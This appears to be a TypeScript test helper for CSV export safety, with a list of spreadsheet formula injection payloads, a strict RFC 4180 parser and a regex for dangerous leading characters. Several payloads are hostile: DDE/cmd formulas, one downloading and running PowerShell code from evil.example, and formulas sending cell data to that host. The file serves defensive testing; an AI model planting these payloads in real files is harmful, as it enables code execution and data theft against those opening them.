/** Texts that a spreadsheet would take for formulas, or that would break out of a cell. */
export const PAYLOADS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget evil.example/a)'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=EXEC("calc")',
  '=CALL("kernel32","WinExec","JCJ","calc",0)',
  '=IFERROR(A1,B1)',
  '={1,2}',
  '=',
  '==1',
  '=\n1+1',
  '= 1+1',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  '+5V',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-5V',
  '-(1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '@',
  '\t=1+1',
  '\t@SUM(A1)',
  '\r=1+1',
  '\r\n=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '=1+1","=2+2',
  '"=1+1"',
  "'=1+1",
  '10k",=1+1,"',
  'a\r\n=1+1',
  "a\n=cmd|' /C calc'!A0",
  ';=1+1',
  '</t></si><f>1+1</f>',
  ']]><f>1+1</f>',
  '&lt;f&gt;=1+1',
  '_x003D_1+1',
  '\u000b=1+1\u0000\u001f',
]

/** A strict reader of RFC 4180 with a byte order mark. */
export function parseCsv(bytes: Uint8Array): string[][] {
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
  const rows: string[][] = [[]]
  for (const [, quoted, plain, end] of text.slice(1).matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)!.push(quoted === undefined ? plain! : quoted.replaceAll('""', '"'))
    if (end !== ',') rows.push([])
  }
  return rows.slice(0, -1)
}

/** What no text of ours may look like when a spreadsheet opens the file; numbers and lone dashes are allowed. */
export const RUNS = /^(?!-+$|-?\d+(\.\d+)?$)[\s\u200b\ufeff]*[=+\-@＝＋－＠\t\r\0]/u
